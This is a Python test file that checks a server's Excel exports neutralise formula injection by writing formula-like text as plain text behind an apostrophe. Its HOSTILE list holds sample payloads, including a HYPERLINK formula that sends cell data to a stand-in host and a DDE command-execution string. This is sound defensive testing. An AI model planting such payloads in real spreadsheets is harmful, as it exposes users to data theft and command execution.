"""Every workbook the server writes opens as text: no formula, no DDE, no broken XML."""

import io

import pytest
from openpyxl import load_workbook

from gridgov.common.xlsx import read_sheet, write_sheet
from gridgov.events.catalog_excel import catalog_bytes
from gridgov.events.models import Subclass

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
]


def cells(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


def test_text_that_starts_a_formula_is_written_behind_an_apostrophe():
    content = write_sheet([["header", "=header"], *[[value, 1] for value in HOSTILE]])
    rows = cells(content)
    assert rows[0][1].value == "'=header"
    for row, value in zip(rows[1:], HOSTILE, strict=True):
        assert row[0].data_type == "s"  # text, never "f" (formula)
        # (XML reads a stored CR back as LF.)
        assert row[0].value == "'" + value.replace("\r", "\n")
        assert row[1].value == 1


def test_numbers_dates_and_plain_text_are_written_as_they_are():
    rows = cells(write_sheet([["n", "text"], [-5, "文汇社区 3-201"], [2.5, None]]))
    assert [c.value for c in rows[1]] == [-5, "文汇社区 3-201"]
    assert rows[1][0].data_type == "n"
    assert rows[2][0].value == 2.5


def test_characters_xml_forbids_are_dropped_instead_of_failing_the_export():
    rows = cells(write_sheet([["name"], ["和\x0b丽\x00华\ufffe"]], title="a/b:c"))
    assert rows[1][0].value == "和丽华"


def test_an_export_read_back_for_import_keeps_the_original_text():
    header, body = read_sheet(write_sheet([["Name", "=x"], ["=1+1", "-3 楼"], ["'plain", "a"]]))
    assert header == ["name", "=x"]
    assert [values for _number, values in body] == [("=1+1", "-3 楼"), ("'plain", "a")]


@pytest.mark.django_db
def test_the_catalog_export_neutralises_a_formula_in_a_subclass_name():
    subclass = Subclass.objects.order_by("code").first()
    Subclass.objects.filter(pk=subclass.pk).update(name_zh="=1+1", keywords="@SUM(1)")
    row = cells(catalog_bytes())[1]
    assert row[0].value == subclass.code
    assert (row[1].value, row[1].data_type) == ("'=1+1", "s")
    assert row[4].value == "'@SUM(1)"
